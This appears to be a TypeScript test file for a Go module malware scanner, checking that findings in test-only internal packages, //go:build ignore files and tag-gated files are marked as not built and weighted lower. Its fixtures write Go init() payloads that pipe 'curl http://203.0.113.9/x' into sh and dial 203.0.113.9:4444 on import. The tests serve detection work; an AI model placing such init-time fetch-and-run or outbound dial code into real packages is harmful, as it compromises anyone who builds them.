// Which packages of a module can build into a dependent: internal packages only tests import cannot,
// and neither can files behind `//go:build ignore` (scan-worker.ts); findings there are marked notBuilt.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { unreachableInternalPackages } from '../src/static/build-reach.js';
import { buildIgnored } from '../src/static/build-constraints.js';
import { scanModule } from '../src/static/scan.js';
import { loadRules, defaultRulesDir } from '../src/static/rules/load.js';
import { makeModule } from './helpers/modules.js';

test('an internal package is unreachable when only tests import it, reachable through any built import chain', () => {
  const m = 'example.test/m';
  const packages = [
    { dir: '', buildImports: ['fmt', `${m}/internal/a`] },
    { dir: 'internal/a', buildImports: [`${m}/internal/b`] },
    { dir: 'internal/b', buildImports: [] },
    { dir: 'internal/testutils', buildImports: ['testing'] },
    { dir: 'testdata/x', buildImports: [`${m}/internal/only-testdata`] },
    { dir: 'internal/only-testdata', buildImports: [] },
    { dir: 'cmd/tool/internal/c', buildImports: [] },
    { dir: 'cmd/tool', buildImports: [`${m}/cmd/tool/internal/c`] },
  ];
  assert.deepEqual([...unreachableInternalPackages(m, packages)].sort(), ['internal/only-testdata', 'internal/testutils']);
  assert.equal(unreachableInternalPackages(undefined, packages).size, 0, 'no module path: nothing is called unreachable');
  const std = [
    { dir: 'os', buildImports: ['internal/poll'] },
    { dir: 'internal/poll', buildImports: [] },
    { dir: 'internal/testenv', buildImports: [] },
  ];
  assert.deepEqual([...unreachableInternalPackages('std', std)], ['internal/testenv'], 'std packages are imported without the module prefix');
  const withNested = [...packages, { dir: 'tools/internal/x', buildImports: [] }];
  assert.ok(!unreachableInternalPackages(m, withNested, ['tools']).has('tools/internal/x'), 'a nested module names its packages by its own path');
  const failed = [...packages, { dir: 'pkg', buildImports: null }];
  assert.equal(unreachableInternalPackages(m, failed).size, 0, 'a package whose imports are unknown may import any of them');
});

test('//go:build ignore above the package clause marks a file that never builds', () => {
  assert.equal(buildIgnored('//go:build ignore\n\npackage main\n'), true);
  assert.equal(buildIgnored('// Copyright\n\n// +build ignore\n\npackage main\n'), true);
  assert.equal(buildIgnored('//go:build linux\n\npackage p\n'), false);
  assert.equal(buildIgnored('//go:build ignore && linux\n\npackage p\n'), false);
  assert.equal(buildIgnored('package p\n\n//go:build ignore\n'), false, 'below the package clause it is only a comment');
});

test('a scan marks findings of test-only internal packages and ignored files notBuilt, and leaves the rest', async () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'gosnare-reach-'));
  try {
    const write = (rel: string, text: string) => {
      mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
      writeFileSync(path.join(dir, rel), text);
    };
    const payload = (pkg: string) => `package ${pkg}\nimport "os/exec"\nfunc init() { exec.Command("sh", "-c", "curl http://203.0.113.9/x | sh").Run() }\n`;
    write('go.mod', 'module example.test/m\n\ngo 1.22\n');
    write('m.go', 'package m\nimport _ "example.test/m/internal/used"\n');
    write('m_test.go', 'package m\nimport _ "example.test/m/internal/testutils"\n');
    write('internal/used/u.go', payload('used'));
    write('internal/testutils/t.go', payload('testutils'));
    write('gen.go', `//go:build ignore\n\n${payload('main')}`);
    const result = await scanModule(dir, { rules: loadRules([defaultRulesDir()]), workers: 1 });
    const byFile = (file: string) => result.findings.filter((f) => f.file === file);
    assert.ok(byFile('internal/used/u.go').length > 0 && byFile('internal/used/u.go').every((f) => f.notBuilt === undefined), 'a built internal package');
    assert.ok(byFile('internal/testutils/t.go').length > 0 && byFile('internal/testutils/t.go').every((f) => f.notBuilt === true), 'an internal package only tests import');
    assert.ok(byFile('gen.go').length > 0 && byFile('gen.go').every((f) => f.notBuilt === true), 'a //go:build ignore file');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('code no default build compiles is marked notInDefaultBuilds and weighs at most suspicious', async () => {
  const payload = (pkg: string, head = '') => `${head}package ${pkg}\nimport "net"\nfunc init() { net.Dial("tcp", "203.0.113.9:4444") }\n`;
  const dir = makeModule({
    'go.mod': 'module example.test/m\n\ngo 1.22\n',
    // The mobile package is imported only under tags or mobile GOOSes; its gl file builds only on windows
    // (fyne's internal/driver/mobile shape): no default build compiles the gl file.
    'app_mobile.go': '//go:build android || ios || mobile\n\npackage m\nimport _ "example.test/m/internal/mobile"\n',
    'app.go': 'package m\nimport _ "example.test/m/internal/desk"\n',
    'internal/mobile/gl_windows.go': payload('mobile'),
    'internal/mobile/gl_android.go': payload('mobile'),
    'internal/desk/d_windows.go': payload('desk'),
    'tagged.go': payload('m', '//go:build purego\n\n'),
  });
  try {
    const result = await scanModule(dir, { rules: loadRules([defaultRulesDir()]), workers: 1 });
    const marked = (file: string) => {
      const list = result.findings.filter((f) => f.file === file && f.ruleId === 'import-time-network');
      assert.ok(list.length > 0, file);
      return list.every((f) => f.notInDefaultBuilds === true);
    };
    assert.equal(marked('internal/mobile/gl_windows.go'), true, 'windows-only file of a package only mobile files import');
    assert.equal(marked('internal/mobile/gl_android.go'), false, 'an android build imports and compiles it');
    assert.equal(marked('internal/desk/d_windows.go'), false, 'a windows build compiles it');
    assert.equal(marked('tagged.go'), true, 'a file that needs a tag');
    const { computeVerdict } = await import('../src/verdict/score.js');
    const only = (file: string) => computeVerdict({ static: { ...result, findings: result.findings.filter((f) => f.file === file) }, moduleFindings: [] }).level;
    assert.equal(only('internal/mobile/gl_windows.go'), 'suspicious');
    assert.equal(only('internal/desk/d_windows.go'), 'malicious');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a test harness package (test/e2e/..., tests/...) counts as internal: unreachable unless a built package imports it', () => {
  const m = 'example.test/m';
  const packages = [
    { dir: '', buildImports: [`${m}/test/helpers`] },
    { dir: 'test/helpers', buildImports: [] },
    { dir: 'test/e2e/fixture', buildImports: [`${m}/pkg/client`] },
    { dir: 'tests/dbconfig', buildImports: [] },
    { dir: 'pkg/client', buildImports: [] },
    { dir: 'contest', buildImports: [] },
  ];
  assert.deepEqual([...unreachableInternalPackages(m, packages)].sort(), ['test/e2e/fixture', 'tests/dbconfig']);
});
